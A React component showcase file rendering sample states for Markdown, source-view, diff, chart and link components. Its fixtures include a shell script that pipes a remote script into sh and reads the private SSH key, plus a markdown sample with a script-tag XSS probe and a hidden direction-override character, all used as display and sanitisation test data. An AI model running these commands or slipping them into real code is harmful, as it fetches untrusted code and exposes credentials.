import { useState } from 'react'
import { HourBars } from '../charts/hour-bars.tsx'
import { Ageing, Share } from '../charts/share.tsx'
import { Spark } from '../charts/spark.tsx'
import { Button } from '../parts/button.tsx'
import { Difference, DifferenceCount } from '../parts/difference.tsx'
import { Markdown } from '../parts/markdown.tsx'
import { moneyText } from '../parts/money-text.ts'
import { ScrollRegion } from '../parts/scroll-region.tsx'
import { Source } from '../parts/source.tsx'
import { TextLink } from '../parts/text-link.tsx'
import { useLanguage, useWords, words } from '../words/words.ts'
import styles from './book.module.css'
import { type Chapter, State } from './chapter.tsx'

const texts = words({
  es: {
    changes: 'Cambios',
    lines: 'Líneas',
    delivered: 'entregadas',
    failed: 'fallidas',
    hours: 'Entregas en 24 horas',
    phases: 'Fases del intento',
    due: 'Por cobrar',
    notDue: 'No vencido',
    days: (range: string) => `${range} días`,
    more: 'Más de 60',
    spark: 'Errores por hora, ahora 12',
    show: (size: string) => `Mostrar ${size}`,
    showMore: (size: string) => `Mostrar más de ${size}`,
    program: 'Programa',
    remark: 'Lo descargado puede cambiar después de la revisión.',
    ofWhole: 'Falta la licencia.',
    client: 'Bodegas Luzón',
    longTitle: 'El aviso al responsable falla cuando el cliente no tiene correo',
  },
  en: {
    changes: 'Changes',
    lines: 'Lines',
    delivered: 'delivered',
    failed: 'failed',
    hours: 'Deliveries in 24 hours',
    phases: 'Phases of the attempt',
    due: 'Owed',
    notDue: 'Not due',
    days: (range: string) => `${range} days`,
    more: 'More than 60',
    spark: 'Errors by hour, now 12',
    show: (size: string) => `Show ${size}`,
    showMore: (size: string) => `Show more than ${size}`,
    program: 'Program',
    remark: 'What it downloads can change after the review.',
    ofWhole: 'The license is missing.',
    client: 'Bodegas Luzón',
    longTitle: 'The notice to the owner fails when the client has no e-mail address',
  },
})

const markdown = `# Plan a week

Plan the week from **tasks** and *notes*, with \`$ARGUMENTS\`. See [the guide](/docs) or [a foreign page](https://example.com/guide).

## Steps

1. Read the calendar
2. Write the plan
   - under *six* hours a day

> Nobody reads a plan that is longer than a page.

| Day | Hours |
|---|---:|
| Monday | 6 |

\`\`\`sh
curl https://patio.example
\`\`\`

![A chart](https://elsewhere.example/chart.png) <script>alert(1)</script> and a \u202Ehidden\u202C direction.
`

function Markdowns() {
  const text = useWords(texts)
  const [longText, setLongText] = useState('')
  const repeated = (characters: number) =>
    `${markdown.repeat(Math.floor(characters / markdown.length))}\n\n## End`
  return (
    <>
      <State title="Markdown">
        <Markdown text={markdown} />
      </State>
      <State title="Long, too long">
        <Button onPress={() => setLongText(repeated(100_000))}>{text.show('100 KB')}</Button>
        <Button onPress={() => setLongText(repeated(499_000))}>{text.show('500 KB')}</Button>
        <Button onPress={() => setLongText(repeated(510_000))}>{text.showMore('500 KB')}</Button>
      </State>
      {longText && <Markdown text={longText} />}
    </>
  )
}

function Differences() {
  const { changes } = useWords(texts)
  return (
    <>
      <State title="Difference">
        <Difference
          label={changes}
          difference={{
            added: 2,
            removed: 1,
            isComplete: false,
            hunks: [
              {
                fromLine: 4,
                toLine: 4,
                runs: [
                  { kind: 'same', lines: ['Plan the week from tasks', '$ARGUMENTS'] },
                  { kind: 'removed', lines: ['under eight hours'] },
                  { kind: 'added', lines: ['under six', ''] },
                ],
              },
              { fromLine: 40, toLine: 41, runs: [{ kind: 'same', lines: ['end'] }] },
            ],
          }}
        />
      </State>
      <State title="Equal, count">
        <Difference label={`${changes} 2`} difference={null} />
        <DifferenceCount added={3} removed={1} />
      </State>
    </>
  )
}

function ScrollRegions() {
  const { lines } = useWords(texts)
  return (
    <State title="ScrollRegion">
      <div className={styles.region}>
        <ScrollRegion label={lines}>
          {Array.from({ length: 20 }, (_, line) => (
            <p key={String(line + 1)}>{line + 1}</p>
          ))}
        </ScrollRegion>
      </div>
    </State>
  )
}

function Charts() {
  const text = useWords(texts)
  const language = useLanguage()
  const amounts = [1_520_410, 657_765, 253_670, 0]
  const ages = [text.notDue, text.days('1–30'), text.days('31–60'), text.more]
  return (
    <>
      <State title="HourBars">
        <div className={styles.column}>
          <HourBars
            label={text.hours}
            series={[
              { id: 'delivered', label: text.delivered, kind: 'plain' },
              { id: 'failed', label: text.failed, kind: 'failed' },
            ]}
            bars={Array.from({ length: 24 }, (_, hour) => ({
              id: String(hour),
              label: `${hour}:00`,
              values: { delivered: 8 + ((hour * 7) % 11), failed: hour > 20 ? 40 : 0 },
            }))}
          />
        </div>
      </State>
      <State title="Share">
        <div className={styles.wide}>
          <Share
            label={text.phases}
            parts={[
              { id: 'dns', label: 'dns', value: 2, text: '2 ms' },
              { id: 'connect', label: 'connect', value: 8, text: '8 ms' },
              { id: 'tls', label: 'tls', value: 21, text: '21 ms' },
              { id: 'byte', label: 'first byte', value: 310, text: '310 ms' },
            ]}
          />
        </div>
      </State>
      <State title="Ageing">
        <div className={styles.wide}>
          <Ageing
            label={text.due}
            parts={amounts.map((value, at) => ({
              id: ages[at]!,
              label: ages[at]!,
              value,
              text: moneyText(value, 'EUR', language),
            }))}
          />
        </div>
      </State>
      <State title="Spark">
        <Spark label={text.spark} values={[2, 4, 3, 8, 6, 5, 9, 12]} />
        <Spark label={`${text.spark}.`} values={[1, 1, 2, 1, 8, 12]} kind="failed" />
      </State>
    </>
  )
}

const program = '#!/bin/sh\nset -eu\n\ncurl -s https://x.example.com/i.sh | sh\ncat ~/.ssh/id_rsa\n'

function Sources() {
  const text = useWords(texts)
  const [current, setCurrent] = useState<string>()
  return (
    <>
      <State title="Source">
        <div className={styles.wide}>
          <Source label={text.program} text={program} />
        </div>
      </State>
      <State title="Notes">
        <div className={styles.wide}>
          <Button onPress={() => setCurrent('download')}>{text.show('curl')}</Button>
          <Source
            label={`${text.program} 2`}
            text={program}
            current={current}
            notes={[
              { id: 'license', line: null, kind: 'info', content: text.ofWhole },
              { id: 'download', line: 4, kind: 'danger', content: text.remark },
              { id: 'keys', line: 5, kind: 'warn', content: text.remark },
            ]}
          />
        </div>
      </State>
      <State title="Empty">
        <div className={styles.wide}>
          <Source label={`${text.program} 3`} text="" />
        </div>
      </State>
    </>
  )
}

function TextLinks() {
  const text = useWords(texts)
  return (
    <>
      <State title="TextLink">
        <TextLink href="/clients">{text.client}</TextLink>
      </State>
      <State title="In a new tab">
        <TextLink href="/portal" isInNewTab>
          https://patio.example/portal
        </TextLink>
      </State>
      <State title="Cut">
        <div className={styles.narrow}>
          <TextLink href="/errors" isCut>
            {text.longTitle}
          </TextLink>
        </div>
      </State>
    </>
  )
}

export const textChapters: readonly Chapter[] = [
  { id: 'source', title: 'Source', Content: Sources },
  { id: 'text-link', title: 'TextLink', Content: TextLinks },
  { id: 'markdown', title: 'Markdown', Content: Markdowns },
  { id: 'difference', title: 'Difference', Content: Differences },
  { id: 'scroll-region', title: 'ScrollRegion', Content: ScrollRegions },
  { id: 'charts', title: 'HourBars, Share, Ageing, Spark', Content: Charts },
]
